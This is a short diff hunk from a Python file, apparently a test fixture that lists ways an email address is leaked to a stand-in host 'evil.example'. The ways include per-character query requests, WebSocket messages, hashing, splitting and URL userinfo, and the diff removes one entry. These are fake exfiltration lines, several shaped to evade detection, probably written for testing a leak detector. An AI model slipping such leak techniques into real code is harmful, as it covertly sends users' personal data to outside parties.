@@ -497,7 +497,6 @@ WAYS = {
     "a character a request, in the query": [entry(f"{EVIL}/t?c={quote(each, safe='')}") for each in MAIL],
     "a character a message": [websocket(*MAIL)],
     "messages of a WebSocket that nobody recorded": [websocket()],
-    "what stands before the at sign": [entry(f"{EVIL}/?u={MAIL.split('@', maxsplit=1)[0]}")],
     "its digest": [entry(f"{EVIL}/?u={hashlib.sha256(MAIL.split('@', maxsplit=1)[0].encode()).hexdigest()}")],
     "two halves": [entry(f"{EVIL}/?a={MAIL[:HALF]}"), entry(f"{EVIL}/?b={MAIL[HALF:]}")],
     "a user of an address": [entry(f"https://{quote(MAIL, safe='')}@evil.example/")],
